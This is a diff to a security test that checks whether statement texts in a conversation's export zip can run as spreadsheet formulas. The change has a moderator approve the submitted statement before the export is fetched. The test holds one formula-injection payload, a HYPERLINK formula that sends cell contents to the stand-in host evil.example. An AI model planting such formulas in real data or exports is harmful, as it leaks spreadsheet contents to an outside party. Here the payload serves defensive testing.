@@ -320,17 +320,21 @@ def test_statement_texts_in_the_polis_export_cannot_run_as_spreadsheet_formulas(
     import zipfile
 
     from clustering.polis import conversation_import_polis
+    from moderation.services import statement_approve
     from tests.security.conftest import logged_in, make_user
 
     conversation = make_conversation("formula-export")
     formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
-    services.statement_submit_by_browser(
+    submitted = services.statement_submit_by_browser(
         conversation=conversation, browser_token="t" * 32, text=formula
     )
     services.statement_seed(conversation=conversation, text="-50 % bus fares for pensioners")
     benches = services.statement_seed(conversation=conversation, text="More benches")
     services.vote_cast(participant=make_participant(conversation), statement_id=benches.pk, choice=1)
-    staff = logged_in(make_user("staff", staff=True, superuser=True))
+    staff_user = make_user("staff", staff=True, superuser=True)
+    # Published by a moderator who missed the formula (pending statements are not exported).
+    statement_approve(moderator=staff_user, statement_id=submitted.pk)
+    staff = logged_in(staff_user)
     response = staff.get(f"/reports/{conversation.slug}/export.zip")
     assert response.status_code == 200
     content = b"".join(response.streaming_content) if response.streaming else response.content
